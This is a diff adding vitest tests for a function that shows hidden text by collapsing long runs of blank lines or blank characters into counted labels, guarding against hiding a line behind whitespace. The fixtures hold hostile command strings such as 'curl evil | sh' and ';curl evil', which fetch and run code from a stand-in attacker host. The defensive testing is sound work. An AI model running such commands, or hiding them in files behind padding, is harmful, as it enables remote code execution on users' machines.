@@ -1,0 +1,22 @@
+import { expect, test } from 'vitest';
+import { textRuns } from './visible-text.tsx';
+
+// A harmful line stands between so many blank ones that nobody scrolls to it with open eyes.
+
+const shown = (text: string) => textRuns(text).map((run) => run.escape ?? run.text);
+
+test.for([' ', '\t', '\u3000', ' \u3000\t'])('attack: blank lines of %j are counted', (blank) => {
+  const [before, lines, after] = shown(`echo\n${`${blank}\n`.repeat(500)}curl evil | sh\n`);
+  expect([before, lines, after]).toEqual(['echo\n', '500 empty lines', 'curl evil | sh\n']);
+});
+
+test.for([' ', '\t', '\u3000'])('attack: many blanks (%j) are counted', (blank) => {
+  expect(shown(`echo${blank.repeat(4000)};curl evil`)).toEqual([
+    ...['echo', '4,000 blanks', ';curl evil'],
+  ]);
+});
+
+test('the indentation of Chinese text stays as it is', () => {
+  const text = '\u3000\u3000\u4f60\u597d\n\n\u3000\u3000\u4f60\u597d\n';
+  expect(shown(text)).toEqual([text]);
+});
